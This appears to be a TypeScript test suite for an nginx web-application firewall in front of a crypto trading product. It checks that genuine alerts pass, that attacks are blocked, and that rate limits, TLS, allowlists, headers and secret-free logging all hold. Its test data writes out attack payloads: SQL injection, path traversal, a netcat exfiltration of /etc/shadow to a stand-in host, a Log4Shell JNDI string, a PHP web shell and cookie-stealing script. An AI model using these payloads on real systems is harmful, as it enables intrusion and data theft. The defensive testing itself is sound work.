// The edge of deploy/edge in front of the real product: genuine alerts pass, attacks do not, nothing secret is logged.

import assert from 'node:assert/strict';
import { request as plainRequest } from 'node:http';
import { connect as connectHttp2 } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { connect as connectTls } from 'node:tls';
import { type Answer, openClient, type Question } from './client.ts';
import { eventually } from './kept.ts';
import { type Edge, type Finding, missingPackages, SERVER_NAME, startEdge } from './nginx.ts';
import { type Product, startProduct } from './product.ts';

const skip = missingPackages();
if (skip) console.error(`The edge is not tested: ${skip}`);

const ADMIN = '127.0.0.10';
const LISTED = '127.0.0.66';
/** Stands for a load balancer: what it says in X-Forwarded-For is believed. */
const TRUSTED_PROXY = '127.0.0.99';
const CHARTING = '52.89.214.238';
/** A request_id that the product made: a UUIDv7. */
const OF_THE_PRODUCT = /^[0-9a-f]{8}-[0-9a-f]{4}-7/;

describe('the edge in front of the product', { skip, timeout: 240_000 }, () => {
  let product: Product;
  let edge: Edge;
  let client: ReturnType<typeof openClient>;
  const stops: (() => unknown)[] = [];

  before(async () => {
    product = await startProduct({ adminIp: ADMIN });
    stops.push(product.stop);
    edge = await startEdge({
      productPort: product.port,
      local: {
        'admin-ips.conf': `${ADMIN} 1;`,
        'ip-reputation.conf': `${LISTED} 1; ${ADMIN} 1; ${CHARTING} 1; 2001:db8:bad::/48 1;`,
        'trusted-proxies.conf': `set_real_ip_from ${TRUSTED_PROXY}; real_ip_header X-Forwarded-For; real_ip_recursive on;`,
      },
    });
    stops.push(edge.stop);
    client = openClient(edge);
    stops.push(client.close);
  });
  after(async () => {
    for (const stop of stops.reverse()) await stop();
  });

  const ask = (path: string, question?: Question) => client.ask(path, question);
  const webhook = () => `/webhook/${product.token}/order`;
  let signals = 0;
  const signal = (fields: Record<string, unknown> = {}) => ({
    action: 'buy',
    symbol: 'BTCUSDT',
    quantity: 0.01,
    timestamp: new Date(Date.now() + signals++).toISOString(),
    secret: product.secret,
    ...fields,
  });
  const finding = (where: (found: Finding) => boolean): Promise<Finding> =>
    eventually(() => edge.findings().find(where) ?? null, edge.logs, 5_000);
  const findingOf = ({ body }: Answer) => finding(({ requestId }) => requestId === body.request_id);

  function assertRefused(answer: Answer, code = 'edge_blocked', status = 403): void {
    assert.equal(answer.status, status, answer.text);
    assert.equal(answer.headers['content-type'], 'application/problem+json');
    assert.equal(answer.body.code, code);
    assert.equal(answer.body.status, status);
    assert.match(String(answer.body.request_id), /^[0-9a-f]{32}$/);
  }

  describe('lets genuine requests pass', () => {
    for (const type of ['application/json', 'application/json; charset=utf-8', 'text/plain; charset=utf-8'])
      it(`an alert as ${type}`, async () => {
        const answer = await ask(webhook(), {
          body: JSON.stringify(signal()),
          headers: { 'content-type': type },
        });
        assert.equal(answer.status, 200, answer.text);
        assert.equal(answer.body.status, 'filled');
      });

    it('an alert without a content type, and under one that is none', async () => {
      for (const headers of [{}, { 'content-type': 'no type at all' }]) {
        const answer = await ask(webhook(), { body: JSON.stringify(signal()), headers });
        assert.equal(answer.body.status, 'filled', answer.text);
      }
    });

    it('an alert over HTTP/2', async () => {
      const session = connectHttp2(`https://127.0.0.1:${edge.https}`, {
        ca: edge.tls.ca,
        servername: SERVER_NAME,
      });
      const stream = session.request({
        ':method': 'POST',
        ':path': webhook(),
        ':authority': SERVER_NAME,
        'content-type': 'text/plain',
      });
      stream.end(JSON.stringify(signal()));
      stream.setEncoding('utf8');
      let text = '';
      for await (const chunk of stream) text += chunk;
      session.close();
      assert.equal(JSON.parse(text).status, 'filled');
    });

    it('what alerts carry besides: exchange prefixes, prose, nested extras', async () => {
      const extras = {
        symbol: 'BINANCE:BTCUSDT.P',
        comment: "It's a long entry; stop 1% & target 2% (R:R 1:2) — don't chase",
        strategy: { order: { id: 'Long', price: 64_000.5 }, tags: ['a', 'b'], market_position: 'long' },
      };
      const answer = await ask(`${webhook()}?simulation=true`, { body: signal(extras) });
      assert.equal(answer.body.status, 'filled', answer.text);
    });

    it('a session, a form, an API key and every method that the product has', async () => {
      const email = "pat.o'brien@example.com";
      const password = 'a horse, a staple; a battery';
      const registered = await ask('/auth/register', { body: { email, password, accept_terms: true } });
      assert.equal(registered.status, 201, registered.text);
      const form = new URLSearchParams({ grant_type: 'password', username: email, password }).toString();
      const token = await ask('/auth/token', {
        body: form,
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
      });
      assert.equal(token.status, 200, token.text);
      const logout = await ask('/auth/logout', {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          authorization: `Bearer ${token.body.access_token}`,
          'x-csrf-token': String(token.body.csrf_token),
        },
      });
      assert.equal(logout.status, 204, logout.text);
      const authorization = `Bearer ${product.apiKey}`;
      const orders = await ask('/trading/orders?limit=5&symbol=BTCUSDT&from=2026-01-01T00:00:00Z', {
        headers: { authorization },
      });
      assert.equal(orders.status, 200, orders.text);
      for (const method of ['PUT', 'PATCH', 'DELETE']) {
        const answer = await ask('/trading/accounts/none', { method, body: { name: 'x' } });
        assert.notEqual(answer.body.code, 'edge_blocked', answer.text);
      }
    });

    for (const path of ['/auth/login', '/auth/register', '/auth/token', '/auth/reset-password'])
      it(`a password that looks like SQL, to ${path}`, async () => {
        const password = "' OR 1=1 --; DROP TABLE users";
        const body = { email: `sql${path.length}@example.com`, password };
        const bodies: Record<string, unknown> = {
          '/auth/register': { ...body, accept_terms: true },
          '/auth/token': { grant_type: 'password', username: body.email, password },
          '/auth/reset-password': { token: 'x', password },
        };
        const answer = await ask(path, { body: bodies[path] ?? body });
        assert.notEqual(answer.body.code, 'edge_blocked');
        assert.notEqual(answer.status, 403);
        // The same answer as without an edge, but for what differs each time.
        assert.equal(
          answer.status,
          path === '/auth/register' ? 201 : path === '/auth/login' ? 401 : 400,
          answer.text,
        );
      });

    it('such a password in a form', async () => {
      const answer = await ask('/auth/token', {
        body: `grant_type=password&username=nobody%40example.com&password=${encodeURIComponent("' OR 1=1 --")}`,
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
      });
      assert.deepEqual([answer.status, answer.body.error], [400, 'invalid_grant'], answer.text);
    });
  });

  describe('blocks attacks with 403, and logs them under the request_id', () => {
    const sql = "x' OR 1=1 --";
    const attacks: Record<string, () => Promise<Answer>> = {
      'SQL in a query': () => ask(`/trading/orders?symbol=${encodeURIComponent(sql)}`),
      'SQL in an alert': () => ask(webhook(), { body: signal({ symbol: sql }) }),
      'SQL in an alert that calls itself text': () =>
        ask(webhook(), {
          body: JSON.stringify(signal({ symbol: sql })),
          headers: { 'content-type': 'text/plain' },
        }),
      'SQL in a cookie': () => ask('/health', { headers: { cookie: `theme=${sql}` } }),
      'path traversal in a query': () => ask('/health?file=../../../etc/passwd'),
      'path traversal in a body': () => ask('/trading/order', { body: { symbol: '../../../../etc/passwd' } }),
      'script in a query': () => ask('/health?q=%3Cscript%3Ealert(1)%3C/script%3E'),
      'script in the query of a form': () =>
        ask('/auth/token?q=%3Cscript%3Ealert(1)%3C/script%3E', {
          body: 'grant_type=x',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
        }),
      'a remote file in a query': () => ask('/health?page=http://192.0.2.7/shell.php'),
      'a shell command': () =>
        ask('/trading/order', { body: { symbol: '; cat /etc/shadow | nc 192.0.2.7 99' } }),
      Log4Shell: () => ask('/health', { headers: { 'user-agent': '$' + '{jndi:ldap://192.0.2.7/a}' } }),
      'a scanner': () => ask('/health', { headers: { 'user-agent': 'sqlmap/1.7' } }),
      'a file that must not be served': () => ask('/.git/config'),
      'a method that nobody needs': () => ask('/health', { method: 'PROPFIND' }),
      'a body that nobody reads': () =>
        ask('/auth/login', { body: '<a/>', headers: { 'content-type': 'text/xml' } }),
      'a query name that begins with json.': () => ask('/health?json.q=%3Cb%3E'),
      'a query name that hides it': () => ask('/health?%6Ason%2Eq=1'),
    };
    for (const [name, attack] of Object.entries(attacks))
      it(name, async () => {
        const answer = await attack();
        assertRefused(answer);
        assert.equal((await findingOf(answer)).status, 403);
      });

    for (const path of [
      '/../../etc/passwd',
      '/%2e%2e/%2e%2e/etc/passwd',
      '/a/../b',
      '/a/%2e%2e%2fb',
      '/a\\..\\b',
    ])
      it(`path traversal: ${path}`, async () => assertRefused(await ask(path)));

    it('a secret in a URL, without logging it', async () => {
      for (const name of ['secret', 'password', 'json.secret', 'a.new_password'])
        assertRefused(await ask(`/health?${name}=in-a-url-canary`));
      assert.ok(
        !edge.findings().some(({ uri }) => uri.includes('in-a-url-canary') && !uri.includes('json.')),
      );
    });

    it('a body that is not the JSON it says, with 400', async () => {
      const headers = { 'content-type': 'application/json' };
      const answer = await ask('/auth/login', { body: '{"email":', headers });
      assertRefused(answer, 'request_invalid', 400);
      assert.deepEqual((await findingOf(answer)).messages, ['UnreadableBody']);
    });

    it('more values than can be looked at in time, with 400', async () => {
      const values = (count: number) => signal({ list: Array.from({ length: count }, (_, i) => i) });
      assert.equal((await ask(webhook(), { body: values(200) })).body.status, 'filled');
      assertRefused(await ask(webhook(), { body: values(300) }), 'request_invalid', 400);
    });
  });

  describe('counts, and lets pass', () => {
    const counted: Record<string, Record<string, unknown>> = {
      SizeRestrictions_BODY: { comment: 'x'.repeat(12_000) },
      CrossSiteScripting_BODY: { comment: '<script>alert(document.cookie)</script>' },
      GenericRFI_BODY: { comment: 'http://192.0.2.7/shell.php?cmd=id' },
    };
    /** What is passed has no request_id of the edge: it is found by an address of its own. */
    let addresses = 1;
    const newAddress = () => `127.0.3.${addresses++}`;
    const findingFrom = (from: string) => finding(({ ip }) => ip === from);

    for (const [rule, fields] of Object.entries(counted))
      it(rule, async () => {
        const from = newAddress();
        const answer = await ask(webhook(), { body: signal(fields), from });
        assert.equal(answer.body.status, 'filled', answer.text);
        const { messages, status } = await findingFrom(from);
        assert.deepEqual({ messages, status }, { messages: [rule], status: 200 });
      });

    it('a body of 8 KiB is not counted, one byte more is', async () => {
      const empty = JSON.stringify(signal({ comment: '' }));
      const send = async (size: number) => {
        const from = newAddress();
        const body = JSON.stringify(signal({ comment: 'x'.repeat(size - empty.length) }));
        assert.equal(body.length, size);
        assert.equal((await ask(webhook(), { body, from })).status, 200);
        return from;
      };
      const exact = await send(8192);
      assert.deepEqual((await findingFrom(await send(8193))).messages, ['SizeRestrictions_BODY']);
      assert.ok(!edge.findings().some(({ ip }) => ip === exact));
    });

    it('script and an address in the form of /auth/token', async () => {
      const from = newAddress();
      const answer = await ask('/auth/token', {
        body: 'grant_type=password&password=x&username=%3Cscript%3Ealert(1)%3C/script%3E+http://192.0.2.7/',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        from,
      });
      assert.equal(answer.body.error, 'invalid_grant', answer.text);
      assert.deepEqual((await findingFrom(from)).messages, ['CrossSiteScripting_BODY', 'GenericRFI_BODY']);
    });

    it('an alert that is no JSON: the product refuses it and shows it to its user', async () => {
      const answer = await ask(webhook(), { body: 'buy BTC now', headers: { 'content-type': 'text/plain' } });
      assert.deepEqual([answer.status, answer.body.code], [400, 'webhook_payload_invalid']);
      assert.ok(product.audited('webhook_payload_invalid'));
      await finding(({ messages }) => messages.join() === 'UnreadableWebhook');
    });
  });

  it('leaves bodies that are too large to the product, up to 128 KiB', async () => {
    const alert = await ask(webhook(), { body: signal({ comment: 'x'.repeat(17_000) }) });
    assert.equal(alert.status, 413);
    assert.match(String(alert.body.request_id), OF_THE_PRODUCT);
    const login = await ask('/auth/login', { body: { email: 'x'.repeat(70_000), password: 'x' } });
    assert.equal(login.status, 413);
    assert.match(String(login.body.request_id), OF_THE_PRODUCT);
    assertRefused(await ask(webhook(), { body: { a: 'x'.repeat(140_000) } }), 'payload_too_large', 413);
  });

  describe("tells the product the client's address", () => {
    const seen = async (question: Question) => {
      const answer = await ask(webhook(), { body: signal(), ...question });
      assert.equal(answer.status, 200, answer.text);
      return product.audited('webhook_order')?.ip_address;
    };

    it('of any client', async () => {
      assert.equal(await seen({ from: '127.0.0.5' }), '127.0.0.5');
      assert.equal(product.audited('webhook_order')?.user_agent, 'Go-http-client/1.1');
    });

    it('whatever it says in its headers', async () => {
      const headers = {
        'x-forwarded-for': ['198.51.100.1', '127.0.0.1'],
        'x-real-ip': '198.51.100.1',
        forwarded: 'for=198.51.100.1',
        x_forwarded_for: '198.51.100.1',
        'x-edge-request-id': 'x',
      };
      assert.equal(await seen({ from: '127.0.0.6', headers }), '127.0.0.6');
    });

    it('through a trusted proxy, where the rightmost address counts', async () => {
      const via = (forwarded: string) =>
        seen({ from: TRUSTED_PROXY, headers: { 'x-forwarded-for': forwarded } });
      assert.equal(await via('203.0.113.9'), '203.0.113.9');
      assert.equal(await via('198.51.100.1, 203.0.113.9'), '203.0.113.9');
      assert.equal(await via(`198.51.100.1, 203.0.113.9, ${TRUSTED_PROXY}`), '203.0.113.9');
      assert.equal(await via('2001:db8::9'), '2001:db8::9');
    });

    it('and the rules know it too', async () => {
      const answer = await ask('/health?json.q=1', { from: '127.0.0.7' });
      assert.equal((await findingOf(answer)).ip, '127.0.0.7');
    });
  });

  describe('keeps out', () => {
    it('everybody but admins from /setup, /deployment and /metrics', async () => {
      const authorization = `Bearer ${product.apiKey}`;
      const queues = await ask('/deployment/queues', { from: ADMIN, headers: { authorization } });
      assert.equal(queues.status, 200, queues.text);
      assert.equal((await ask('/setup/admin', { from: ADMIN, body: {} })).status, 400);
      for (const path of ['/deployment/queues', '/setup/admin', '/setup', '/metrics'])
        assertRefused(await ask(path, { headers: { authorization } }), 'ip_not_allowed');
      assertRefused(
        await ask('/deployment/queues', { headers: { authorization, 'x-forwarded-for': ADMIN } }),
        'ip_not_allowed',
      );
    });

    it('addresses of bad reputation, but never an admin or the charting platform', async () => {
      assertRefused(await ask('/health', { from: LISTED }), 'ip_not_allowed');
      assert.equal((await ask('/health', { from: ADMIN })).status, 200);
      const via = (ip: string) => ask('/health', { from: TRUSTED_PROXY, headers: { 'x-forwarded-for': ip } });
      assert.equal((await via(CHARTING)).status, 200);
      assertRefused(await via('2001:db8:bad::1'), 'ip_not_allowed');
    });

    it('plain HTTP: it is sent to HTTPS with method and body', async () => {
      const answer = await new Promise<{ status: number | undefined; location: string | undefined }>(
        (resolve, reject) => {
          plainRequest(
            { port: edge.http, path: '/health?a=1', method: 'POST', headers: { host: SERVER_NAME } },
            (response) => {
              response.resume();
              resolve({ status: response.statusCode, location: response.headers.location });
            },
          )
            .once('error', reject)
            .end('x');
        },
      );
      assert.deepEqual(answer, { status: 308, location: `https://${SERVER_NAME}/health?a=1` });
    });

    const handshake = (options: object) =>
      new Promise<string>((resolve, reject) => {
        const socket = connectTls({ host: '127.0.0.1', port: edge.https, ca: edge.tls.ca, ...options });
        socket.once('secureConnect', () => {
          resolve(String(socket.getProtocol()));
          socket.destroy();
        });
        socket.once('error', reject);
      });

    it('old TLS', async () => {
      assert.equal(await handshake({ servername: SERVER_NAME }), 'TLSv1.3');
      assert.equal(await handshake({ servername: SERVER_NAME, maxVersion: 'TLSv1.2' }), 'TLSv1.2');
      const old = { minVersion: 'TLSv1', maxVersion: 'TLSv1.1', ciphers: 'DEFAULT:@SECLEVEL=0' };
      await assert.rejects(handshake({ servername: SERVER_NAME, ...old }));
    });

    it('whoever asks for another name', async () => {
      await assert.rejects(handshake({ servername: 'other.example.com' }));
      assert.equal((await ask('/health', { headers: { host: 'other.example.com' } })).status, 421);
    });
  });

  it('sends each security header once: the product’s own, or the edge’s with its own answers', async () => {
    const expected = {
      'strict-transport-security': 'max-age=31536000; includeSubDomains; preload',
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'SAMEORIGIN',
      'x-xss-protection': '1; mode=block',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'cross-origin-embedder-policy': 'unsafe-none',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'permissions-policy': 'geolocation=(), microphone=(), camera=(), payment=()',
    };
    const own = [await ask('/setup'), await ask('/health?json.q=1'), await ask('/../x')];
    for (const { headers, headerNames } of own) {
      assert.equal(new Set(headerNames).size, headerNames.length, headerNames.join());
      for (const [name, value] of Object.entries(expected)) assert.equal(headers[name], value);
      assert.match(String(headers['content-security-policy']), /^default-src 'none'/);
    }
    for (const path of ['/health', '/none', '/trading/orders']) {
      const { headers, headerNames } = await ask(path);
      assert.equal(new Set(headerNames).size, headerNames.length, headerNames.join());
      const direct = await fetch(product.url + path);
      await direct.body?.cancel();
      for (const name of [...Object.keys(expected), 'content-security-policy', 'content-type'])
        assert.equal(headers[name] ?? null, direct.headers.get(name), name);
    }
    for (const { headers } of [...own, await ask('/health')]) assert.equal(headers.server, 'nginx');
  });

  it('takes alerts while an address holds more silent connections than there are', async (t) => {
    const silent: Socket[] = [];
    t.after(() => {
      for (const socket of silent) socket.destroy();
    });
    // Twice the 1,024 of a worker, and some.
    for (let i = 0; i < 2_200; i++) {
      const socket = connect({ host: '127.0.0.1', port: edge.https, localAddress: '127.0.0.50' });
      silent.push(socket.on('error', () => {}).resume());
      if (i % 100 === 99) await new Promise((resolve) => setTimeout(resolve, 20));
    }
    for (let i = 0; i < 20; i++) {
      // Each over a connection of its own.
      const fresh = openClient(edge);
      const headers = { 'x-forwarded-for': CHARTING };
      const answer = await fresh.ask(webhook(), { from: TRUSTED_PROXY, headers, body: signal() });
      fresh.close();
      assert.equal(answer.status, 200, answer.text);
    }
  });

  describe('limits rates to the numbers of the spec', () => {
    /** Sends `count` requests; the numbers of those that were let in, and how long it took. */
    async function flood(count: number, send: (i: number) => Promise<Answer>) {
      const started = Date.now();
      const answers: Answer[] = [];
      for (let i = 0; i < count; i += 50)
        answers.push(
          ...(await Promise.all(Array.from({ length: Math.min(50, count - i) }, (_, j) => send(i + j)))),
        );
      const refused = answers.filter(({ status }) => status === 429);
      return { admitted: count - refused.length, refused, seconds: (Date.now() - started) / 1000 };
    }

    it('100 in 5 minutes on the three authentication paths together, and other paths stay open', async () => {
      const from = '127.0.0.40';
      const paths = ['/auth/login', '/auth/register', '/auth/forgot-password'];
      const { admitted, refused, seconds } = await flood(110, (i) =>
        ask(paths[i % 3] ?? '', { from, body: {} }),
      );
      // The bucket leaks one every 3 s meanwhile.
      assert.ok(admitted >= 100 && admitted <= 101 + seconds / 3, `${admitted} in ${seconds} s`);
      for (const answer of refused) {
        assertRefused(answer, 'rate_limited', 429);
        assert.equal(answer.headers['retry-after'], '3');
      }
      assert.equal((await ask('/auth/public-key', { from })).status, 200);
      assert.equal((await ask('/auth/login', { from: '127.0.0.41', body: {} })).status, 400);
    });

    it('2,000 in 5 minutes overall', async () => {
      const from = '127.0.0.42';
      const { admitted, refused, seconds } = await flood(2_400, () => ask('/health', { from }));
      assert.ok(admitted >= 2_000 && admitted <= 2_001 + seconds * 6.67, `${admitted} in ${seconds} s`);
      assert.ok(refused.length > 0);
      assert.equal(refused[0]?.headers['retry-after'], '1');
    });
  });

  it('logs no secret, password, token, key or body', async () => {
    const canary = 'cAnArY-7f3b';
    const attacks = [
      "' OR 1=1 --",
      '<script>alert(1)</script>',
      'http://192.0.2.7/x.php',
      '../../../etc/passwd',
      '; cat /etc/passwd',
      'java.lang.Runtime processbuilder unmarshaller',
      '$' + '{jndi:ldap://x/a}',
      "eval(String.fromCharCode(49)); require('child_process')",
      '<?php system($_GET[0]); ?>',
      '%uff1c %zz',
      'HTTP/1.1 200 OK\r\nSet-Cookie: a=b',
    ];
    const bodies = attacks.flatMap((attack) => {
      const secrets = {
        secret: `${canary} ${attack}`,
        password: `${attack} ${canary}`,
        old: { password: canary },
      };
      return [
        { ...secrets, symbol: 'BTCUSDT' },
        { ...secrets, symbol: attack },
      ];
    });
    const headers = {
      authorization: `Bearer ${product.apiKey}`,
      cookie: `access_token=${canary}' OR 1=1 --`,
    };
    for (const body of bodies) {
      await ask(webhook(), { body, headers });
      await ask('/auth/login', { body, headers });
      await ask(webhook(), { body: JSON.stringify(body).slice(0, -1), headers });
      const form = `password=${encodeURIComponent(body.password)}%zz&username=${encodeURIComponent(body.symbol)}`;
      await ask('/auth/token', {
        body: form,
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
      });
    }
    const { token, secret, apiKey } = product;
    for (const path of [
      '/webhook/TOKEN/order',
      '/webhook/TOKEN/orders',
      '//webhook/TOKEN',
      '/%77ebhook/TOKEN/order',
    ])
      await ask(path.replace('TOKEN', token), { body: signal({ symbol: "x' OR 1=1 --" }) });
    await findingOf(await ask('/health?json.q=1'));
    const logs = edge.logs();
    for (const hidden of [canary, token, secret, apiKey]) {
      const line = logs.split('\n').find((each) => each.toLowerCase().includes(hidden.toLowerCase()));
      assert.equal(line, undefined);
    }
    assert.ok(!logs.includes('[error]') && !logs.includes('[crit]'));
    // Its start tells one token from another.
    const start = token.slice(0, 6);
    assert.ok(edge.findings().some(({ uri }) => uri === `/webhook/${start}/order`));
    assert.ok(edge.accessLog().some(({ request }) => request === `POST /webhook/${start}…/order`));
  });
});
